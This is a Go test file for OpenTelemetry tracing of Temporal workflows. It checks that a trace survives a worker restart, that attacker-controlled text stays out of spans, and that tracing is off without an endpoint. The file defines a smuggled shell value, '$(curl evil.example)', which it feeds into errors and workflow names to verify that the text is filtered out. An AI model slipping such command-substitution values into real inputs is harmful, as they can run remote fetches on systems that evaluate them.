package tracing_test

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/otel/attribute"
	"go.opentelemetry.io/otel/codes"
	sdktrace "go.opentelemetry.io/otel/sdk/trace"
	"go.opentelemetry.io/otel/sdk/trace/tracetest"
	"go.temporal.io/sdk/activity"
	"go.temporal.io/sdk/client"
	sdktemporal "go.temporal.io/sdk/temporal"
	sdkworker "go.temporal.io/sdk/worker"
	"go.temporal.io/sdk/workflow"

	"stanch/activities"
	"stanch/playbooks"
	"stanch/testenv/temporal"
	"stanch/worker/tracing"
)

const maliciousText = "$(curl evil.example)"

func observeActivity(_ context.Context, in activities.ObserveInput) (activities.Result, error) {
	if in.Request.Action == "fails" {
		return activities.Result{}, sdktemporal.NewNonRetryableApplicationError(maliciousText, "stanch.failed",
			errors.New(maliciousText))
	}
	return activities.Result{Outcome: playbooks.OutcomeRefused, Reason: maliciousText}, nil
}

// tracedStoryWorkflow runs an activity, waits for a signal, and runs another activity.
func tracedStoryWorkflow(ctx workflow.Context, second string) error {
	ctx = workflow.WithActivityOptions(ctx, workflow.ActivityOptions{StartToCloseTimeout: 10 * time.Second})
	if err := workflow.ExecuteActivity(ctx, "Observe",
		activities.ObserveInput{Request: activities.Request{Action: "first"}}).Get(ctx, nil); err != nil {
		return err
	}
	workflow.GetSignalChannel(ctx, "go").Receive(ctx, nil)
	return workflow.ExecuteActivity(ctx, "Observe",
		activities.ObserveInput{Request: activities.Request{Action: second}}).Get(ctx, nil)
}

const tracedTaskQueue = "traced"

// startTracedWorker returns a separate worker with its own tracing, as after a restart of the program.
func startTracedWorker(t *testing.T, server *temporal.Server) (*tracetest.InMemoryExporter, client.Client, func()) {
	t.Helper()
	spans := tracetest.NewInMemoryExporter()
	traces := tracing.NewTraces(sdktrace.WithSyncer(keepingExporter{spans}))
	c, err := client.NewClientFromExisting(server.Client, traces.WithTracing(client.Options{Namespace: "stanch"}))
	require.NoError(t, err)
	w := sdkworker.New(c, tracedTaskQueue, sdkworker.Options{StickyScheduleToStartTimeout: 100 * time.Millisecond})
	w.RegisterWorkflowWithOptions(tracedStoryWorkflow, workflow.RegisterOptions{Name: "Story"})
	w.RegisterActivityWithOptions(observeActivity, activity.RegisterOptions{Name: "Observe"})
	require.NoError(t, w.Start())
	return spans, c, func() { w.Stop(); traces.Close() }
}

// keepingExporter keeps the spans after the provider's shutdown.
type keepingExporter struct{ *tracetest.InMemoryExporter }

func (keepingExporter) Shutdown(context.Context) error { return nil }

func spansNamed(all tracetest.SpanStubs, name string) tracetest.SpanStubs {
	var out tracetest.SpanStubs
	for _, s := range all {
		if s.Name == name {
			out = append(out, s)
		}
	}
	return out
}

func spanAttributes(s tracetest.SpanStub) map[attribute.Key]attribute.Value {
	out := map[attribute.Key]attribute.Value{}
	for _, a := range s.Attributes {
		out[a.Key] = a.Value
	}
	return out
}

// A lease outlives the program. What was done before and after a restart is one trace, with the workflow in it once.
func TestTraceContinuesAfterRestart(t *testing.T) {
	server := temporal.Start(t, nil)
	before, c, stop := startTracedWorker(t, server)
	run, err := c.ExecuteWorkflow(t.Context(), client.StartWorkflowOptions{ID: "story", TaskQueue: tracedTaskQueue},
		"Story", "second")
	require.NoError(t, err)
	require.Eventually(t, func() bool { return len(spansNamed(before.GetSpans(), "RunActivity:Observe")) == 1 },
		20*time.Second, 10*time.Millisecond)
	stop()
	sdkworker.PurgeStickyWorkflowCache() // a new process has none
	after, c, stop := startTracedWorker(t, server)
	defer stop()
	require.NoError(t, c.SignalWorkflow(t.Context(), "story", "", "go", nil))
	require.NoError(t, c.GetWorkflow(t.Context(), "story", run.GetRunID()).Get(t.Context(), nil))
	require.Eventually(t, func() bool { return len(spansNamed(after.GetSpans(), "RunWorkflow:Story")) > 0 },
		20*time.Second, 10*time.Millisecond)

	require.Empty(t, spansNamed(before.GetSpans(), "RunWorkflow:Story"), "the workflow had not ended")
	all := append(before.GetSpans(), after.GetSpans()...)
	started, own := spansNamed(all, "StartWorkflow:Story"), spansNamed(all, "RunWorkflow:Story")
	require.Len(t, started, 1)
	require.Len(t, own, 1, "one span, however often the workflow is replayed")
	require.Equal(t, started[0].SpanContext.SpanID(), own[0].Parent.SpanID())
	asked, done := spansNamed(all, "StartActivity:Observe"), spansNamed(all, "RunActivity:Observe")
	require.Len(t, asked, 2)
	require.Len(t, done, 2)
	for n := range asked {
		require.Equal(t, own[0].SpanContext.SpanID(), asked[n].Parent.SpanID())
		require.Equal(t, asked[n].SpanContext.SpanID(), done[n].Parent.SpanID())
		require.Equal(t, started[0].SpanContext.TraceID(), done[n].SpanContext.TraceID())
	}
	require.Equal(t, "first", spanAttributes(done[0])["stanch.action"].AsString())
	require.Equal(t, "second", spanAttributes(done[1])["stanch.action"].AsString())
	require.Equal(t, "refused", spanAttributes(done[1])["stanch.outcome"].AsString())
}

// Attacker-controlled text can be in reasons, errors, and in the names of what someone with access to Temporal starts.
func TestAttackerControlledTextIsNotTraced(t *testing.T) {
	server := temporal.Start(t, nil)
	spans, c, stop := startTracedWorker(t, server)
	defer stop()
	run, err := c.ExecuteWorkflow(t.Context(), client.StartWorkflowOptions{
		ID:        "story\xff" + strings.Repeat("long", 100),
		TaskQueue: tracedTaskQueue,
	}, "Story", "fails")
	if err != nil { // Temporal itself refuses such an id
		run, err = c.ExecuteWorkflow(t.Context(), client.StartWorkflowOptions{
			ID:        "story" + strings.Repeat("long", 100),
			TaskQueue: tracedTaskQueue,
		}, "Story", "fails")
	}
	require.NoError(t, err)
	_, err = c.ExecuteWorkflow(t.Context(), client.StartWorkflowOptions{ID: "other", TaskQueue: tracedTaskQueue},
		maliciousText)
	require.NoError(t, err)
	require.NoError(t, c.SignalWorkflow(t.Context(), run.GetID(), "", "go", nil))
	require.ErrorContains(t, run.Get(t.Context(), nil), maliciousText)
	require.Eventually(t, func() bool { return len(spansNamed(spans.GetSpans(), "RunWorkflow:Story")) > 0 },
		20*time.Second, 10*time.Millisecond)
	require.Equal(t, codes.Error, spansNamed(spans.GetSpans(), "RunWorkflow:Story")[0].Status.Code)
	require.NotEmpty(t, spansNamed(spans.GetSpans(), "StartWorkflow"), "unknown workflow types are not named")
	for _, s := range spans.GetSpans() {
		require.NotContains(t, s.Name, "evil")
		require.NotContains(t, s.Status.Description, "evil")
		require.Empty(t, s.Events)
		for _, a := range s.Attributes {
			require.NotContains(t, a.Value.String(), "evil", "%s of %s", a.Key, s.Name)
			require.LessOrEqual(t, len(a.Value.String()), 256)
		}
	}
}

func TestTracingIsDisabledWithoutReceiver(t *testing.T) {
	for _, name := range []string{
		"OTEL_EXPORTER_OTLP_ENDPOINT", "OTEL_EXPORTER_OTLP_TRACES_ENDPOINT", "OTEL_SDK_DISABLED",
		"OTEL_TRACES_EXPORTER", "OTEL_EXPORTER_OTLP_PROTOCOL",
	} {
		t.Setenv(name, "")
	}
	none, err := tracing.Open(t.Context(), "v1", nil)
	require.NoError(t, err)
	require.Nil(t, none)
	require.Empty(t, none.WithTracing(client.Options{}).Interceptors)
	require.True(t, none.Tracer() == nil, "the interface is nil")
	none.Close()

	t.Setenv("OTEL_EXPORTER_OTLP_ENDPOINT", "http://127.0.0.1:1")
	some, err := tracing.Open(t.Context(), "v1", nil)
	require.NoError(t, err)
	require.Len(t, some.WithTracing(client.Options{}).Interceptors, 2)
	some.Close()
	t.Setenv("OTEL_EXPORTER_OTLP_PROTOCOL", "http/json")
	_, err = tracing.Open(t.Context(), "v1", nil)
	require.ErrorContains(t, err, "use http/protobuf or grpc")
	t.Setenv("OTEL_TRACES_EXPORTER", "none")
	none, err = tracing.Open(t.Context(), "v1", nil)
	require.NoError(t, err)
	require.Nil(t, none)
}
